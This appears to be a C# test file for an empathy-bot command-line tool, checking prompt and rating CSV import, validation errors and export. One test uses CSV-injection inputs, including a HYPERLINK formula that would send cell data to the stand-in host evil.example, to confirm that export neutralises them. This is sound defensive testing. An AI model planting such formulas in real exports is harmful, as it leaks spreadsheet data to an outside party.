using System.CommandLine;
using EmpathyBot.Cli;
using EmpathyBot.Cli.Commands;
using Microsoft.Data.Sqlite;

namespace EmpathyBot.Cli.Tests;

/// <summary><c>prompts import</c> and <c>ratings import</c>/<c>export</c> on a real store in a temp data directory.</summary>
public sealed class ImportCommandsTests : IDisposable
{
    private const string RatingsHeader = "prompt_id,emotion,situation,utterance,source,response_id,response,rater,rating";

    private readonly DirectoryInfo dir = Directory.CreateTempSubdirectory("empathybot-import-cli-");

    public void Dispose()
    {
        SqliteConnection.ClearAllPools();
        dir.Delete(recursive: true);
    }

    private (int Exit, string Out, string Err) Run(params string[] args) => RunIn("store", args);

    private (int Exit, string Out, string Err) RunIn(string store, params string[] args) => CliRun.Invoke(
        new RootCommand("test") { CliServices.DataDir, CliServices.Store, PromptsCommands.Create(), RatingsCommands.Create() },
        [.. args, "--data-dir", Path.Combine(dir.FullName, store)]);

    private string File(string name, params string[] lines)
    {
        var path = Path.Combine(dir.FullName, name);
        System.IO.File.WriteAllLines(path, lines);
        return path;
    }

    [Fact]
    public void EmpatheticDialogues_csv_becomes_a_named_prompt_set()
    {
        var csv = File("ed-train.csv",
            "conv_id,utterance_idx,context,prompt,speaker_idx,utterance,selfeval,tags",
            "hit:0_conv:1,1,sentimental,I remember going to the fireworks with my best friend_comma_ years ago.,1,I miss those summer nights.,5|5|5_2|2|5,",
            "hit:0_conv:1,2,sentimental,I remember going to the fireworks with my best friend_comma_ years ago.,0,Was this a friend you were in love with?,5|5|5_2|2|5,",
            "hit:1_conv:2,1,afraid,I heard a noise downstairs at night.,1,I was sure someone had broken in.,,");

        var (exit, output, error) = Run("prompts", "import", csv, "--set", "ed");
        Assert.True(exit == 0, error);
        Assert.Contains("Prompt set 'ed': 2 prompts (2 new", output);

        var (_, again, _) = Run("prompts", "import", csv, "--set", "ed");
        Assert.Contains("2 prompts (0 new, 2 updated)", again);
        var list = Run("prompts", "list").Out;
        Assert.Contains("ed\t2", list);
        Assert.Contains("core\t352", list); // our own bank, loaded on first use

    }

    [Fact]
    public void A_prompt_file_with_a_bad_row_imports_nothing_and_names_the_line()
    {
        var csv = File("bad.csv",
            "conv_id,utterance_idx,context,prompt,speaker_idx,utterance",
            "c1,1,sad,My goldfish died.,1,I know it's silly but I'm sad.",
            "c2,1,bored,Nothing to do.,1,Meh.");

        var (exit, _, error) = Run("prompts", "import", csv);
        Assert.Equal(ExitCodes.BadInput, exit);
        Assert.Contains("bad.csv:3: emotion 'bored' is not one of the 32 labels", error);
        Assert.DoesNotContain("bad\t", Run("prompts", "list").Out);
    }

    [Fact]
    public void Ratings_import_is_idempotent_all_or_nothing_and_round_trips_through_export()
    {
        var good = File("good.csv", RatingsHeader,
            "p1,sad,\"Lost my keys, again\",Ugh.,human,r1,\"Oh no, that's annoying.\",alice,Good",
            "p1,sad,\"Lost my keys, again\",Ugh.,gpt-4o,r2,I'm sorry to hear that.,alice,okay",
            "p1,sad,\"Lost my keys, again\",Ugh.,gpt-4o,r2,I'm sorry to hear that.,bob,BAD");

        var (exit, output, error) = Run("ratings", "import", good);
        Assert.True(exit == 0, error);
        Assert.Contains("3 new ratings (0 already present)", output);
        Assert.Contains("0 new ratings (3 already present)", Run("ratings", "import", good).Out);

        var bad = File("bad.csv", RatingsHeader,
            "p2,joyful,s,u,human,r3,Yay!,carol,good",
            "p2,joyful,s,u,human,r3,Yay!,dave,superb");
        var (badExit, _, badError) = Run("ratings", "import", bad);
        Assert.Equal(ExitCodes.BadInput, badExit);
        Assert.Contains("bad.csv:3: rating 'superb' is not good, okay or bad", badError);
        Assert.Contains("Imported nothing", badError);

        var export = Path.Combine(dir.FullName, "export.csv");
        Assert.Equal(0, Run("ratings", "export", export).Exit);
        var lines = System.IO.File.ReadAllLines(export);
        Assert.Equal(RatingsHeader, lines[0]);
        Assert.Equal(4, lines.Length);
        Assert.DoesNotContain(lines, l => l.Contains("carol"));
        Assert.Contains("p1,sad,\"Lost my keys, again\",Ugh.,human,r1,\"Oh no, that's annoying.\",alice,good", lines);
    }

    [Fact]
    public void Exported_formulas_are_neutralised_and_export_import_export_gives_the_same_file()
    {
        var hostile = File("hostile.csv", RatingsHeader,
            "p1,sad,=1+1,@SUM(A1:A2),human,r1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",alice,good",
            "p1,sad,=1+1,@SUM(A1:A2),gpt-4o,r2,\"-2+3\ttab and\nnew line\",bob,okay",
            "p1,sad,=1+1,@SUM(A1:A2),human,r3,''+written with a quote,carol,bad");
        var (exit, _, error) = Run("ratings", "import", hostile);
        Assert.True(exit == 0, error);

        var first = Path.Combine(dir.FullName, "first.csv");
        Assert.Equal(0, Run("ratings", "export", first).Exit);
        var exported = System.IO.File.ReadAllText(first);
        Assert.Contains(",'=1+1,'@SUM(A1:A2),", exported);
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",", exported);
        Assert.Contains(",\"'-2+3\ttab and\nnew line\",", exported);
        Assert.Contains(",''+written with a quote,", exported);

        var (again, _, againError) = RunIn("second-store", "ratings", "import", first);
        Assert.True(again == 0, againError);
        var second = Path.Combine(dir.FullName, "second.csv");
        Assert.Equal(0, RunIn("second-store", "ratings", "export", second).Exit);
        Assert.Equal(exported, System.IO.File.ReadAllText(second));
    }

    [Fact]
    public void A_missing_file_is_a_clear_error() =>
        Assert.Contains("No such file", Run("ratings", "import", Path.Combine(dir.FullName, "nope.csv")).Err);
}
